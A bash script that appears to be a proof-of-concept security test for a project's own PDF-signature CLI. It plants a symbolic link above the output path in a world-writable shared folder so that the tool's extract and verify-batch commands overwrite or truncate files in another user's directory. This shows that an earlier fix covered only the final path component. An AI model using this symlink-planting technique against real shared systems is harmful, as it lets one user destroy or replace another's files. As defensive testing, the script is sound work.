#!/usr/bin/env bash
# B2: every written file still follows a symbolic link planted ABOVE its name. F1's fix (lstat of <dir> itself)
# and O_NOFOLLOW cover only the last component: with <shared>/drop a link to the victim's directory,
#   extract archive.pdf <shared>/drop/out --force   replaces the victim's drop target's files,
#   verify-batch --out <shared>/drop/results.jsonl   creates / truncates a file in the victim's directory,
#   worker --health-file <shared>/drop/health.json   (writeFileSafely) likewise.
# usage: scripts/attack34b/write-through-parent-link.sh [honest]   (honest: <shared>/drop is a real directory)
set -u
cd "$(dirname "$0")/../.."
[ -f dist/cli/main.js ] || npm run build >/dev/null
CLI=(node "$PWD/dist/cli/main.js")
W=$(mktemp -d /tmp/attack34b-w.XXXXXX)
mkdir -p "$W/shared" "$W/victim/out"
echo "victim's own file" > "$W/victim/out/Signature1.p7s"
echo "victim's own results" > "$W/victim/results.jsonl"
# <shared> is a shared folder (mode 1777, as /tmp); the link is another user's. Run as root, the script gives the
# link to `nobody` (chown -h: as if nobody had planted it); run as an ordinary user, plant it from another account.
chmod 1777 "$W/shared"
if [ "${1:-}" = honest ]; then mkdir "$W/shared/drop"; else ln -s "$W/victim" "$W/shared/drop"; [ "$(id -u)" = 0 ] && chown -h nobody "$W/shared/drop"; fi
"${CLI[@]}" extract samples/valid/archive.pdf "$W/shared/drop/out" --force >/dev/null 2>"$W/err"; echo "extract exit $? $(head -c 200 "$W/err")"
mkdir -p "$W/arch/a1"; cp samples/valid/workflowtoken.json "$W/arch/a1/"; cp -r samples/valid/originals "$W/arch/a1/"
"${CLI[@]}" verify-batch "$W/arch" --trust samples/trust --out "$W/shared/drop/results.jsonl" >/dev/null 2>"$W/err"; echo "verify-batch --out exit $? $(head -c 200 "$W/err")"
echo "--- victim directory now:"
ls -la "$W/victim" "$W/victim/out" | sed "s|$W|\$W|"
echo "--- victim/out/Signature1.p7s starts: $(head -c 16 "$W/victim/out/Signature1.p7s" | od -An -c | tr -s ' ' | head -1)"
echo "--- victim/results.jsonl starts: $(head -c 60 "$W/victim/results.jsonl")"
rm -rf "$W"
